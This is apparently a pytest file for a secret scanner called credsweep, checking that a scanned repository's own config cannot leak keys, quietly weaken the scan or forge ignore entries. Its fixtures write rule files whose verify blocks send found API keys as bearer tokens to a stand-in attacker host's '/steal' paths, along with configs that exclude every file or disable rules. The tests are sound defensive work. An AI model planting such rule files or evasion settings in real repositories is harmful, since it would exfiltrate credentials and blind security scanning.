"""Issue 14, attacks 1-3: a scanned repository's own settings cannot send keys to its host, hide keys quietly or
change the hash key. Real CLI, real git repositories, a real HTTPS listener on 127.0.0.1."""

from __future__ import annotations

import json
import re
import secrets
import string
from pathlib import Path
from typing import Any

import pytest
from conftest import Result, cli, fake_key, plant, record_file
from support.gitrepo import Repo
from support.schema_util import sarif_errors
from support.verify_server import LocalHttps, https_server_fixture  # noqa: F401

ATTACKER_HOST = "collector.attacker-example.com"


def _acme_key() -> str:
    return plant("acme_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(40)))


def _rule(rid: str, pattern: str, keyword: str, path: str) -> str:
    return f"""rules:
  - id: {rid}
    name: rule planted by the scanned tree
    provider: Attacker
    category: ai-inference
    kind: api-key
    severity: high
    pattern: '{pattern}'
    keywords: [{keyword}]
    description: looks harmless
    verify:
      url: https://{ATTACKER_HOST}{path}
      headers: {{Authorization: "Bearer {{secret}}"}}
      live: [200]
      invalid: [401]
"""


OPENAI_PATTERN = r"(sk-proj-[A-Za-z0-9_-]{74}T3BlbkFJ[A-Za-z0-9_-]{74})"
ACME_PATTERN = r"(?:^|[^A-Za-z0-9_])(acme_[A-Za-z0-9]{40})(?:[^A-Za-z0-9]|$)"


def _evil_repo(tmp_path: Path) -> tuple[Repo, str, str]:
    """A repository whose settings name a rule folder: one rule reuses openai.project-key, one is new; both
    carry verify blocks aimed at the attacker's host."""
    repo = Repo(tmp_path / "evil")
    openai, acme = fake_key("openai.project-key"), _acme_key()
    repo.write("app.env", f"OPENAI_API_KEY={openai}\nACME_TOKEN={acme}\n")
    repo.write(".credsweep.toml", 'rules = [".ci-rules"]\n')
    repo.write(".ci-rules/shadow.yaml", _rule("openai.project-key", OPENAI_PATTERN, "sk-proj-", "/steal-openai"))
    repo.write(".ci-rules/new.yaml", _rule("acme.token", ACME_PATTERN, "acme_", "/steal-acme"))
    repo.commit("add app", when=1)
    return repo, openai, acme


def _paths(server: LocalHttps) -> list[str]:
    return [req.path for req, _ in server.server.log]


def _sarif(text: str) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(text)
    assert sarif_errors(doc) == []
    return doc


def _tree_notifications(doc: dict[str, Any]) -> list[str]:
    inv = doc["runs"][0]["invocations"][0]
    return [n["message"]["text"] for n in inv.get("toolConfigurationNotifications", [])]


def _scan(repo: Path, fmt: str, tmp_path: Path, *args: str, env: dict[str, str] | None = None,
          files: bool = False) -> tuple[Result, str]:
    """One scan in one format; the result text (file output for JSON and SARIF)."""
    out = tmp_path / f"out-{secrets.token_hex(4)}.{fmt}"
    cmd = ["scan", "files", str(repo)] if files else ["scan", "repo", str(repo)]
    if fmt == "text":
        r = cli(*cmd, *args, env=env)
        return r, r.out
    r = cli(*cmd, "--format", fmt, "--output", out, *args, env=env)
    record_file(out)
    return r, out.read_text(encoding="utf-8") if out.is_file() else ""


# --------------------------------------------------------------------------- attack 1: verification


def test_tree_rules_never_send_a_key_and_are_reported(tmp_path, https_server):
    repo, _, _ = _evil_repo(tmp_path)
    https_server.server.expect_request("/steal-openai").respond_with_json({})
    https_server.server.expect_request("/steal-acme").respond_with_json({})
    https_server.server.expect_request("/v1/models").respond_with_json({}, status=401)
    env = https_server.env(extra_hosts=(ATTACKER_HOST,))
    settings = str(repo.path / ".credsweep.toml")

    r, text = _scan(repo.path, "json", tmp_path, "--verify", env=env)
    assert r.rc == 1, r.err
    assert not [p for p in _paths(https_server) if p.startswith("/steal")]
    assert "/v1/models" in _paths(https_server)  # the built-in openai rule verified, at its own host
    doc = json.loads(text)
    by_rule = {f["rule_id"]: f for f in doc["findings"]}
    assert by_rule["openai.project-key"]["provider"] == "OpenAI"  # the built-in rule, not the tree's
    assert by_rule["openai.project-key"]["verification"]["status"] == "invalid"
    assert by_rule["acme.token"]["verification"] is None or \
        by_rule["acme.token"]["verification"]["status"].startswith("offline")
    tree = doc["scan"]["tree_settings"]
    assert tree["files"] == [settings]
    kinds = {(w["kind"], tuple(w["items"])): w for w in tree["weakenings"]}
    shadow = kinds[("rule_shadowed", ("openai.project-key",))]
    refused = kinds[("verify_refused", ("acme.token",))]
    assert settings in shadow["source"] and "shadow.yaml" in shadow["source"]
    assert settings in refused["source"] and "new.yaml" in refused["source"]

    r, text = _scan(repo.path, "text", tmp_path, "--verify", env=env)
    assert r.rc == 1, r.err
    line = next(ln for ln in text.splitlines() if ln.startswith("Settings from the scanned tree"))
    assert settings in line and "openai.project-key" in line and "acme.token" in line and "refused" in line

    r, text = _scan(repo.path, "sarif", tmp_path, "--verify", env=env)
    assert r.rc == 1, r.err
    sarif = _sarif(text)
    notes = _tree_notifications(sarif)
    assert any("openai.project-key" in n and settings in n and "reuses the id" in n for n in notes)
    assert any("acme.token" in n and settings in n and "verify block" in n for n in notes)
    assert not [p for p in _paths(https_server) if p.startswith("/steal")]


def test_the_listener_would_receive_the_key_without_the_boundary(tmp_path, https_server):
    """Control: the same rule files given by the operator with the explicit opt-in do reach the listener, so
    the test above fails if the boundary is gone. Without the opt-in, operator rules do not verify either."""
    repo, _, _ = _evil_repo(tmp_path)
    https_server.server.expect_request("/steal-openai").respond_with_json({})
    https_server.server.expect_request("/steal-acme").respond_with_json({})
    env = https_server.env(extra_hosts=(ATTACKER_HOST,))
    rules = repo.path / ".ci-rules"
    r, text = _scan(repo.path, "json", tmp_path, "--no-repo-config", "--rules", str(rules), "--verify", env=env)
    assert r.rc == 1, r.err
    assert not [p for p in _paths(https_server) if p.startswith("/steal")]
    assert any("--verify-custom-rules" in n for n in json.loads(text)["notes"])
    r, _ = _scan(repo.path, "json", tmp_path, "--no-repo-config", "--rules", str(rules), "--verify",
                 "--verify-custom-rules", env=env)
    assert r.rc == 1, r.err
    assert sorted(p for p in _paths(https_server) if p.startswith("/steal")) == ["/steal-acme", "/steal-openai"]


# --------------------------------------------------------------------------- attack 2: quiet weakenings


def _weak_repo(tmp_path: Path, files: dict[str, str]) -> tuple[Repo, str]:
    repo = Repo(tmp_path / "weak")
    key = fake_key("openai.project-key")
    repo.write("app.env", f"OPENAI_API_KEY={key}\n")
    repo.write("README.md", "nothing here\n")
    for rel, text in files.items():
        repo.write(rel, text)
    repo.commit("init", when=1)
    return repo, key


CASES = {
    "exclude-all": ({".credsweep.toml": 'exclude = ["**"]\n'}, ".credsweep.toml", "exclude", 4,
                    "excludes 3 file(s) matching **"),
    "pyproject-exclude": ({"pyproject.toml": '[project]\nname = "x"\n[tool.credsweep]\nexclude = ["*.env"]\n'},
                          "pyproject.toml [tool.credsweep]", "exclude", 0, "excludes 1 file(s) matching *.env"),
    "disable-rules": ({".credsweep.toml": 'disable_rules = ["openai.", "keyname.", "generic."]\n'}, ".credsweep.toml",
                      "disable_rules", 0, "disables the rules openai., keyname., generic."),
    "severity-fail-on": ({".credsweep.toml": 'fail_on = "critical"\n[severity]\n"openai.project-key" = "low"\n'},
                         ".credsweep.toml", "fail_on", 0, "fails only on critical and above"),
    "structure-off": ({".credsweep.toml": "structure = false\n"}, ".credsweep.toml", "structure", 1,
                      "turns structure parsing of configuration files off"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_each_tree_weakening_is_visible_in_text_json_and_sarif(tmp_path, case):
    files, label, kind, rc, detail = CASES[case]
    repo, _ = _weak_repo(tmp_path, files)
    settings = str(repo.path / label)

    r, text = _scan(repo.path, "text", tmp_path)
    assert r.rc == rc, r.err
    line = next(ln for ln in text.splitlines() if ln.startswith("Settings from the scanned tree"))
    assert settings in line and detail in line
    if rc == 4:
        assert "excluded every file" in r.err and "nothing was scanned" in text

    r, text = _scan(repo.path, "json", tmp_path)
    assert r.rc == rc, r.err
    tree = json.loads(text)["scan"]["tree_settings"]
    assert tree["files"] == [settings]
    [w] = [w for w in tree["weakenings"] if w["kind"] == kind]
    assert w["source"] == settings and detail in w["detail"]
    if kind == "exclude":
        assert w["count"] == int(detail.split()[1])
    if case == "severity-fail-on":
        [sev] = [w for w in tree["weakenings"] if w["kind"] == "severity"]
        assert sev["items"] == ["openai.project-key=low"]

    r, text = _scan(repo.path, "sarif", tmp_path)
    assert r.rc == rc, r.err
    doc = _sarif(text)
    notes = _tree_notifications(doc)
    assert any(settings in n and detail in n for n in notes)
    props = doc["runs"][0]["invocations"][0]["properties"]["treeSettings"]
    assert props["files"] == [settings]


@pytest.mark.parametrize("setting", ['only_rules = ["no-such-rule"]', 'disable_rules = ["nosuch."]',
                                     'only_rules = ["openai.project-key", "openai.nope"]'])
def test_unknown_rule_ids_are_a_config_error_naming_them(tmp_path, setting):
    repo, _ = _weak_repo(tmp_path, {".credsweep.toml": setting + "\n"})
    bad = setting.split('"')[-2]
    r = cli("scan", "repo", repo.path)
    assert r.rc == 3, r.err
    assert repr(bad) in r.err and ".credsweep.toml" in r.err and "Traceback" not in r.err
    assert len(r.err.strip().splitlines()) == 1


def test_inline_markers_and_html_markdown_blocks(tmp_path):
    repo, key = _weak_repo(tmp_path, {".credsweep.toml": 'disable_rules = ["generic."]\n'})
    other = fake_key("anthropic.api-key")
    repo.write("fixture.py", f'KEY = "{other}"  # credsweep:allow\n')
    repo.commit("fixture", when=2)
    r, text = _scan(repo.path, "json", tmp_path, "--no-history")
    assert r.rc == 1, r.err
    [w] = [w for w in json.loads(text)["scan"]["tree_settings"]["weakenings"] if w["kind"] == "inline_allow"]
    assert w["count"] == 1
    for fmt in ("html", "markdown"):
        r, body = _scan(repo.path, fmt, tmp_path, "--no-history")
        assert r.rc == 1, r.err
        assert "Settings from the scanned tree" in body
        plain = re.sub(r"\\(.)", r"\1", body)  # Markdown escapes punctuation in content
        assert "disables the rules generic." in plain and "credsweep:allow" in plain
        assert str(repo.path / ".credsweep.toml") in body


# --------------------------------------------------------------------------- attack 3: the hash key


def test_tree_cannot_change_the_hash_key_and_default_key_ignores_are_reported(tmp_path):
    repo, key = _weak_repo(tmp_path, {})
    no_key = {"CREDSWEEP_HASH_KEY": ""}
    r, text = _scan(repo.path, "json", tmp_path, env=no_key)
    assert r.rc == 1, r.err
    fp = json.loads(text)["findings"][0]["fingerprint"]  # what an attacker computes offline with the public key
    repo.write(".credsweep.toml", 'hash_key_env = "SOME_UNSET_VAR"\n')
    repo.write(".credsweep-ignore.toml", f'[[ignore]]\nfingerprint = "{fp}"\nreason = "test fixture"\n')
    repo.commit("hide it", when=2)

    # no organisation key: the public default key, the ignore entry applies, and the report says so
    r, text = _scan(repo.path, "json", tmp_path, env=no_key)
    assert r.rc == 0, r.err
    doc = json.loads(text)
    assert doc["scan"]["hash"]["key_id"] == "default"
    tree = doc["scan"]["tree_settings"]
    assert tree["default_hash_key"] is True
    kinds = {w["kind"]: w for w in tree["weakenings"]}
    assert kinds["hash_key_env_refused"]["items"] == ["SOME_UNSET_VAR"]
    assert kinds["ignore_entries"]["count"] == 1 and "public default hash key" in kinds["ignore_entries"]["detail"]
    assert str(repo.path / ".credsweep-ignore.toml") in tree["files"]
    r, out = _scan(repo.path, "text", tmp_path, env=no_key)
    assert r.rc == 0 and "hash_key_env: refused" in out and "hides 1 finding(s) by ignore entries" in out

    # the operator's key: the tree's setting does not replace it, and the forged entry hides nothing
    org = {"CREDSWEEP_HASH_KEY": "org-" + secrets.token_hex(16)}
    r, text = _scan(repo.path, "json", tmp_path, env=org)
    assert r.rc == 1, r.err
    doc = json.loads(text)
    assert doc["scan"]["hash"]["key_id"] not in ("default", "")
    assert [f["status"] for f in doc["findings"]] == ["new"]
    r, text = _scan(repo.path, "sarif", tmp_path, env=org)
    assert r.rc == 1, r.err
    notes = _tree_notifications(_sarif(text))
    assert any("hash_key_env: refused" in n for n in notes)


def test_operator_hash_key_env_unset_is_an_error(tmp_path):
    repo, _ = _weak_repo(tmp_path, {})
    ops = tmp_path / "ops"
    ops.mkdir()
    (ops / "credsweep.toml").write_text('hash_key_env = "SOME_UNSET_VAR"\n', encoding="utf-8")
    r = cli("scan", "repo", repo.path, "--config", ops / "credsweep.toml", env={"SOME_UNSET_VAR": ""})
    assert r.rc == 3, r.err
    assert "SOME_UNSET_VAR" in r.err and "not set" in r.err and "Traceback" not in r.err
    r = cli("scan", "repo", repo.path, "--config", ops / "credsweep.toml", "--format", "json",
            env={"SOME_UNSET_VAR": "org-" + secrets.token_hex(16)})
    assert r.rc == 1, r.err
    assert json.loads(r.out)["scan"]["hash"]["key_id"] != "default"


# --------------------------------------------------------------------------- --no-repo-config


def test_no_repo_config_ignores_every_tree_setting(tmp_path, https_server):
    repo, key = _weak_repo(tmp_path, {
        ".credsweep.toml": 'exclude = ["*.env"]\ndisable_rules = ["openai.", "keyname."]\nfail_on = "critical"\n'
                           'structure = false\nhash_key_env = "SOME_UNSET_VAR"\nrules = [".ci-rules"]\n',
        ".ci-rules/new.yaml": _rule("acme.token", ACME_PATTERN, "acme_", "/steal-acme"),
    })
    acme, other = _acme_key(), fake_key("anthropic.api-key")
    repo.write("more.env", f"ACME_TOKEN={acme}\n")
    repo.write("fixture.py", f'KEY = "{other}"  # credsweep:allow\n')
    r, text = _scan(repo.path, "json", tmp_path, "--no-history", env={"CREDSWEEP_HASH_KEY": ""})
    fp = json.loads(text)["findings"][0]["fingerprint"] if r.rc == 1 else "0" * 32
    repo.write(".credsweep-ignore.toml", f'[[ignore]]\nfingerprint = "{fp}"\nreason = "x"\n')
    repo.commit("all of it", when=2)
    https_server.server.expect_request("/steal-acme").respond_with_json({})
    env = {**https_server.env(extra_hosts=(ATTACKER_HOST,)), "CREDSWEEP_HASH_KEY": ""}

    r, text = _scan(repo.path, "json", tmp_path, "--no-repo-config", "--verify", env=env)
    assert r.rc == 1, r.err
    doc = json.loads(text)
    rules = sorted(f["rule_id"] for f in doc["findings"])
    assert "openai.project-key" in rules and "anthropic.api-key" in rules and "acme.token" not in rules
    assert {f["status"] for f in doc["findings"]} == {"new"}  # no marker, no tree ignore entry hides anything
    tree = doc["scan"]["tree_settings"]
    assert tree["weakenings"] == [] and tree["files"] == []
    assert str(repo.path / ".credsweep.toml") in tree["disregarded"]
    assert str(repo.path / ".credsweep-ignore.toml") in tree["disregarded"]
    assert not [p for p in _paths(https_server) if p.startswith("/steal")]
    r, out = _scan(repo.path, "text", tmp_path, "--no-repo-config")
    assert r.rc == 1 and "not read (--no-repo-config)" in out
    r, text = _scan(repo.path, "sarif", tmp_path, "--no-repo-config", files=True)
    assert r.rc == 1, r.err
    notes = _tree_notifications(_sarif(text))
    assert any("not read (--no-repo-config)" in n for n in notes)


def test_merged_report_keeps_every_trees_settings(tmp_path):
    a, _ = _weak_repo(tmp_path / "a", {".credsweep.toml": 'exclude = ["*.env"]\n'})
    b, _ = _weak_repo(tmp_path / "b", {".credsweep.toml": "structure = false\n"})
    for repo, rc in ((a, 0), (b, 1)):
        r, _ = _scan(repo.path, "json", tmp_path)
        assert r.rc == rc, r.err
    outs = sorted(tmp_path.glob("out-*.json"))
    assert len(outs) == 2
    r = cli("report", *outs, "--format", "markdown")
    assert r.rc == 0, r.err
    assert "## Settings from the scanned tree" in r.out
    assert str(a.path / ".credsweep.toml") in r.out and str(b.path / ".credsweep.toml") in r.out
    assert "excludes 1 file(s) matching *.env" in re.sub(r"\\(.)", r"\1", r.out)  # Markdown escapes punctuation


def test_tree_rule_in_a_builtin_namespace_cannot_take_over_findings(tmp_path):
    repo, _ = _weak_repo(tmp_path, {
        ".credsweep.toml": 'rules = ["ci"]\n',
        "ci/takeover.yaml": _rule("openai.takeover", OPENAI_PATTERN, "sk-proj-", "/x").replace(
            "severity: high", "severity: info\n    confidence: high"),
    })
    r, text = _scan(repo.path, "json", tmp_path)
    assert r.rc == 1, r.err
    doc = json.loads(text)
    assert "openai.takeover" not in {f["rule_id"] for f in doc["findings"]}
    assert "openai.project-key" in {f["rule_id"] for f in doc["findings"]}
    [w] = [w for w in doc["scan"]["tree_settings"]["weakenings"] if w["kind"] == "rule_shadowed"]
    assert w["items"] == ["openai.takeover"] and "namespace" in w["detail"] and "takeover.yaml" in w["source"]


def test_hook_and_scan_all_take_no_repo_config(tmp_path):
    repo, _ = _weak_repo(tmp_path, {".credsweep.toml": 'exclude = ["*.env"]\n'})
    repo.write("app.env", f"OPENAI_API_KEY={fake_key('openai.project-key')}\n")
    repo.git("add", "app.env")
    r = cli("hook", "app.env", cwd=repo.path)
    assert r.rc == 0, r.err
    assert "Settings from the scanned tree" in r.out and "excludes" in r.out
    r = cli("hook", "app.env", "--no-repo-config", cwd=repo.path)
    assert r.rc == 1, r.err

    marked = Repo(tmp_path / "marked")
    marked.write("fixture.py", f'KEY = "{fake_key("anthropic.api-key")}"  # credsweep:allow\n')
    marked.commit("fixture", when=1)
    ops = tmp_path / "ops"
    ops.mkdir()
    (ops / "all.yaml").write_text(f"sources:\n  repos: [{marked.path}]\n", encoding="utf-8")
    r = cli("scan", "all", "--config", ops / "all.yaml")
    assert r.rc == 0, r.err
    assert "hides 1 finding(s) by inline credsweep:allow markers" in r.out
    r = cli("scan", "all", "--config", ops / "all.yaml", "--no-repo-config")
    assert r.rc == 1, r.err
